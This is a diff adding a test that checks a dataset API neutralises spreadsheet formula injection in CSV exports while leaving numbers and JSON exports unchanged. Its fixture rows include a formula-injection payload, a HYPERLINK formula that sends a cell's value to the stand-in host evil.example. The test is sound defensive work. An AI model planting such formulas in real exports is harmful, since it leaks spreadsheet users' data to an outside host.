@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DIALECTS, startTestKernel, type TestKernel } from '../harness/index.ts';
 
@@ -48,6 +49,35 @@ describe.each(DIALECTS)('dataset export and PII masking (%s)', (dialect) => {
     expect(rows).toHaveLength(2500);
     expect(rows[1234]).toEqual({ name: 'person 1234', email: 'p1234@example.test', age: 54, meta: { n: 1234 } });
     expect((await t.request('GET', `/api/datasets/${datasetId}/export?format=xml`)).status).toBe(400);
+  });
+
+  it('neutralises text cells that a spreadsheet would run as formulas in CSV exports, never numbers, never in JSON', async () => {
+    const project = await t.request('POST', '/api/projects', { body: { key: 'SHEET', name: 'Sheets' } });
+    const columns = [{ name: 'label', type: 'string' }, { name: 'amount', type: 'number' }, { name: 'count', type: 'integer' }, { name: 'extra', type: 'json' }, { name: '=total', type: 'string' }];
+    const dataset = await t.request('POST', '/api/datasets', { body: { name: 'sheet', project_id: project.body.id, columns } });
+    expect(dataset.status).toBe(201);
+    const rows = [
+      { label: '=HYPERLINK("http://evil.example/?x="&A1,"click")', amount: -3, count: -7, extra: '=1+1', '=total': '@SUM(A1:A9)' },
+      { label: '+1', amount: -0.5, count: 0, extra: -2, '=total': '-' },
+      { label: '\tleading tab', amount: 1, count: 1, extra: { f: '=x' }, '=total': '\rcarriage return' },
+      { label: 'plain = text', amount: null, count: null, extra: null, '=total': "'already quoted" },
+    ];
+    expect((await t.request('POST', `/api/datasets/${dataset.body.id}/rows`, { body: rows })).status).toBe(200);
+
+    const csv = await t.request('GET', `/api/datasets/${dataset.body.id}/export?format=csv`);
+    expect(csv.status).toBe(200);
+    const parsed = Papa.parse<string[]>(csv.text, { skipEmptyLines: true }).data;
+    expect(parsed).toEqual([
+      ['label', 'amount', 'count', 'extra', "'=total"],
+      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '-3', '-7', "'=1+1", "'@SUM(A1:A9)"],
+      ["'+1", '-0.5', '0', '-2', "'-"],
+      ["'\tleading tab", '1', '1', '{"f":"=x"}', "'\rcarriage return"],
+      ['plain = text', '', '', '', "'already quoted"],
+    ]);
+
+    const json = await t.request('GET', `/api/datasets/${dataset.body.id}/export?format=json`);
+    expect(json.status).toBe(200);
+    expect(JSON.parse(json.text)).toEqual(rows);
   });
 
   it('masks PII columns for callers without datasets.pii.read, in rows and in exports', async () => {
